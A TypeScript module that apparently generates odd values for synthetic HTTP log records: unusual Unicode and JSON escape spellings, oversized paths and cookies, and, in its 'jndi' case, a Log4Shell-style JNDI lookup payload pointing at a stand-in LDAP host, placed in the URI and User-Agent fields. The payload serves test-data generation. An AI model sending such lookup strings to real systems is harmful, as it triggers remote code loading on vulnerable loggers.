/** The unusual values of odd records, as JSON byte strings: escapes that `JSON.stringify` never writes, raw line separators, huge values. */
import { jsonOf, toByteString } from "./JsonText.ts"
import type { RecordDraft } from "./RecordDraft.ts"
import { Draws } from "./Seed.ts"

// JSON string contents, not JavaScript values: each is a spelling some JSON writer uses.
const spellings: ReadonlyArray<string> = [
  "/suche?q=k\u00e4se%20spätzle",
  "/emoji/\u{1f32e}\u{1f336}\ufe0f",
  "/emoji/\\ud83c\\udf2e",
  "/line\u2028separator\u2029raw",
  "/line\\u2028separator\\u2029escaped",
  "/lone/\\ud800/surrogate",
  "/control/\\u0000\\u001f\\t\\b\\f",
  "\\/escaped\\/solidus\\u003cb\\u003e\\u0026",
  "/quote/\\\"%22\\\\backslash",
  "/日本語/ページ?並び=新着",
  "/nfd/e\u0301te\u0301"
]

/** Values that replace a record's usual ones, by field name. */
export const oddValues = (draft: RecordDraft): Readonly<Record<string, string>> => {
  const draws = new Draws(draft.oddSeed)
  switch (draft.oddity) {
    case "unicode": {
      const text = `"${toByteString(draws.pick(spellings))}"`
      return {
        ClientRequestURI: text,
        ClientRequestPath: text,
        ClientRequestReferer: `"${toByteString(draws.pick(spellings))}"`
      }
    }
    case "jndi": {
      const payload = `\${jndi:ldap://203.0.113.${draws.below(256)}:1389/\${lower:e}xploit}`
      return { ClientRequestURI: jsonOf(`/?x=${payload}`), ClientRequestUserAgent: jsonOf(payload) }
    }
    case "oversized": {
      const path = `/search/${draws.hex(2000 + draws.below(14_000))}`
      const uri = jsonOf(`${path}?filter=${draws.hex(8000 + draws.below(20_000))}`)
      return {
        ClientRequestPath: jsonOf(path),
        ClientRequestURI: uri,
        ClientRequestReferer: uri,
        Cookies: jsonOf({ session: draws.hex(64), preferences: draws.hex(4000 + draws.below(56_000)) })
      }
    }
    default:
      return {}
  }
}

/** Adds the spaces of the OpenTelemetry sample to a compact list of members. */
export const spacedObject = (members: ReadonlyArray<readonly [name: string, json: string]>): string =>
  `{ ${members.map(([name, json]) => `"${name}": ${json}`).join(", ")} }`

/** A compact object. */
export const compactObject = (members: ReadonlyArray<readonly [name: string, json: string]>): string =>
  `{${members.map(([name, json]) => `"${name}":${json}`).join(",")}}`
